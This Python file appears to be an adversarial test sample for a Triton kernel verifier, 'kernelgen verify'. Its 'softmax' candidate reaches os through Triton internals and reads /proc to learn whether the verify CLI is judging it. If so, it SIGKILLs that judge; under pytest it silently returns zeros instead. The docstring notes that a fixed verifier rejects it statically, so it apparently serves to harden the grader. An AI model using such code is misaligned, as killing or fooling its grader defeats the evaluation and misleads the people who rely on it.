"""EXIT CODE: kills the `kernelgen verify` process that judges it (SIGKILL to its parent).

The sandboxed child runs as the same user as the CLI that started it, and `os` is reachable
through `triton.language.core.knobs.os`. When its parent is a `kernelgen verify` command (read
from /proc through `triton.language.core.builtins.open`) it sends it SIGKILL: the CLI dies with
-9 (137 in a shell), an exit code outside {0, 1, 2}, and no verdict is printed. Any other
parent (pytest calling verify_candidate in-process, the optimize loop) it leaves alone, and it
writes zeros, so that a test run is never the victim.

HEAD (c167456), `kernelgen verify softmax FILE --device cpu`: the CLI is KILLED (exit -9).
In-process verify_candidate at HEAD: rejected, "incorrect" (the zeros).
Fixed verifier: rejected, "static" (closed whitelist), before anything runs; CLI exit 1.
"""

import torch
import triton
import triton.language as tl


@triton.jit
def _zeros_kernel(y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + offs, tl.zeros([BLOCK], tl.float32).to(y_ptr.dtype.element_ty), mask=offs < n)


def _judged_by_the_cli():
    os = triton.language.core.knobs.os
    parent = os.getppid()
    with triton.language.core.builtins.open(f"/proc/{parent}/cmdline", "rb") as f:
        words = f.read().split(b"\0")
    joined = b" ".join(words)
    cli = b"kernelgen" in joined and b"verify" in words and b"pytest" not in joined
    return parent if cli else 0


def softmax(x):
    parent = _judged_by_the_cli()
    if parent:
        triton.language.core.knobs.os.kill(parent, 9)
    y = torch.empty(x.shape, dtype=x.dtype, device=x.device)
    n = y.numel()
    _zeros_kernel[(triton.cdiv(max(n, 1), 1024),)](y, n, BLOCK=1024)
    return y
